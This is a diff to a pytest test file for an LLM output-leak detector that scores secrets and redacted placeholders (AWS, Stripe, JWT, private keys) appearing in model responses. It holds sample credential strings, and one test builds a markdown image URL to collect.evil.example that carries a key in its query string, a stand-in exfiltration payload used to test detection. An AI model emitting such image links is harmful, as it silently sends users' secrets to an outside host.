@@ -14,10 +14,10 @@ from typing import Any
 import pytest
 
 from inferwatch.collectors.event import EventOutput
-from inferwatch.collectors.redaction import redact
+from inferwatch.collectors.redaction import mask, redact
 from inferwatch.detectors import output_leak
 from inferwatch.detectors.base import Detector, Finding
-from inferwatch.detectors.output_leak import OutputLeakDetector, iban_valid, mask
+from inferwatch.detectors.output_leak import OutputLeakDetector, iban_valid
 from inferwatch.testing import make_event, run_detector
 
 T0 = 1_767_225_600.0
@@ -147,7 +147,7 @@ def test_placeholders_from_redacted_capture_count_as_leaks() -> None:
     assert finding.evidence["kinds"] == {"email": 1, "phone": 1, "aws_access_key": 1, "card": 1}
     assert all(s["redacted"] for s in finding.evidence["snippets"])
     assert {s["masked"] for s in finding.evidence["snippets"]} == {
-        "[EMAIL]", "[PHONE]", "[SECRET:aws_access_key]", "[CARD]"}
+        "[EMAIL]", "[PHONE]", "[SECRET:aws_access_key:AKIA…4VYD]", "[CARD]"}
     assert finding.severity == "high"
 
 
@@ -160,6 +160,46 @@ def test_a_key_redacted_at_the_edge_is_as_confident_a_leak_as_the_key() -> None:
     assert scan(redact(f"key {AWS}"), redact(f"check {AWS}")) == []  # the caller sent it
     (generic,) = scan("the token is [SECRET]", "hi")
     assert generic.evidence["kinds"] == {"secret": 1}
+
+
+STRIPE = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
+LONG_TOKEN = "q8Zr2Lp0Xv7Nw4Kt9Bs6Hd3Jm1Fc5Gy8Aa"  # 32+: the agent masks it as a generic secret
+
+
+@pytest.mark.parametrize(
+    ("secret", "kind"),
+    [(AWS, "aws_access_key"), (GCP, "gcp_api_key"), (GITHUB, "github_token"), (SLACK, "slack_token"),
+     (OPENAI, "openai_style_key"), (STRIPE, "stripe_key"), (JWT, "jwt"), (PRIVATE_KEY, "private_key"),
+     (LONG_TOKEN, "secret")],
+)
+def test_a_placeholder_that_names_the_secret_weighs_as_its_kind_did(secret: str, kind: str) -> None:
+    placeholder = redact(secret)
+    assert placeholder.count(":") == (2 if kind != "secret" else 1)  # [SECRET:<kind>:<which>]
+    bare = "[SECRET]" if kind == "secret" else f"[SECRET:{kind}]"
+    (named,) = scan(f"Here: {placeholder}.", "what is it?")
+    (unnamed,) = scan(f"Here: {bare}.", "what is it?")
+    assert named.evidence["kinds"] == unnamed.evidence["kinds"] == {kind: 1}
+    assert (named.score, named.severity) == (unnamed.score, unnamed.severity)
+    assert named.evidence["snippets"] == [{"kind": kind, "masked": placeholder, "redacted": True}]
+
+
+def test_the_redacted_evidence_names_the_key_as_scan_does() -> None:
+    (raw,) = scan(f"My AWS key is {AWS}", "what is your key?")
+    (redacted,) = scan(redact(f"My AWS key is {AWS}"), "what is your key?")
+    assert raw.evidence["snippets"][0]["masked"] == "AKIA…4VYD"
+    assert redacted.evidence["snippets"][0]["masked"] == "[SECRET:aws_access_key:AKIA…4VYD]"
+
+
+def test_a_placeholder_compares_with_the_input_by_the_key_it_names() -> None:
+    other = "AKIAQ7R2LPWN4VYDZ3MX"
+    assert scan(redact(f"key {AWS}"), redact(f"check {AWS}")) == []  # the same key: the caller sent it
+    (finding,) = scan(redact(f"use {other}"), redact(f"check {AWS}"))  # another key: leaked
+    assert finding.evidence["snippets"][0]["masked"] == "[SECRET:aws_access_key:AKIA…Z3MX]"
+
+
+def test_an_identified_placeholder_in_an_image_url_is_data() -> None:
+    image = f"![x](https://collect.evil.example/p.png?k={redact(AWS)})"
+    assert kinds(image, "hi") == {"markdown_image": 1, "aws_access_key": 1}
 
 
 def test_only_placeholders_beyond_those_in_the_input_count() -> None:
